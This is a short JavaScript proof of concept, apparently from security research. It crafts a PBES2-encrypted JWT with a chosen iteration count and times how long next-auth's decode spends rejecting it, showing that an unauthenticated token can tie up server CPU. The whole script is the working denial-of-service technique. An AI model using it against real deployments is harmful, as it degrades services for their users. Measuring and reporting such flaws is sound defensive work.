import { decode } from "next-auth/jwt";
import { EncryptJWT } from "jose";
const secret = "x".repeat(44);
// a PBES2 token: its key is the raw 32-byte derived key? next-auth derives the key via hkdf; the attacker doesn't need the right key to make it expensive.
const key = new TextEncoder().encode("anything-at-all-will-do-here-now");
const t = await new EncryptJWT({ a: 1 }).setProtectedHeader({ alg: "PBES2-HS512+A256KW", enc: "A256GCM", p2c: 10000 }).encrypt(key);
for (let r = 0; r < 3; r++) {
  let s = performance.now(); let n = 0;
  const el0 = performance.eventLoopUtilization();
  for (let i = 0; i < 50; i++) { try { await decode({ token: t, secret }); } catch (e) { if (i == 0 && r == 0) console.log(e.code); } n++; }
  const el = performance.eventLoopUtilization(el0);
  console.log("pbes2 ms/op", ((performance.now() - s) / n).toFixed(2), "loop util", el.utilization.toFixed(2));
  const d = "eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA";
  s = performance.now();
  for (let i = 0; i < 50; i++) { try { await decode({ token: d, secret }); } catch {} }
  console.log("dir garbage ms/op", ((performance.now() - s) / 50).toFixed(2));
}
